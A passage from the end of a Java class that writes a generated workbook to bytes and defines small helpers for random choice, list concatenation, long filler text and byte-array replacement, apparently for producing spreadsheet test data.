            wb.write(out);
            return out.toByteArray();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    // ================================================================================== helpers

    private <T> T pick(List<T> choices) {
        return choices.get(random.nextInt(choices.size()));
    }

    private static <T> List<T> concat(List<T> a, List<T> b) {
        List<T> all = new ArrayList<>(a);
        all.addAll(b);
        return all;
    }

    private String longText(int length) {
        String unit = random.nextBoolean() ? "纠纷" : "ab";
        return unit.repeat(length / unit.length() + 1).substring(0, length);
    }

    private static byte[] replace(byte[] data, byte[] find, byte[] with) {
        for (int i = 0; i <= data.length - find.length; i++) {
            if (Arrays.equals(data, i, i + find.length, find, 0, find.length)) {
                byte[] out = new byte[data.length - find.length + with.length];
                System.arraycopy(data, 0, out, 0, i);
                System.arraycopy(with, 0, out, i, with.length);
                System.arraycopy(data, i + find.length, out, i + with.length, data.length - i - find.length);
                return out;
            }
        }
        return data;
    }
}
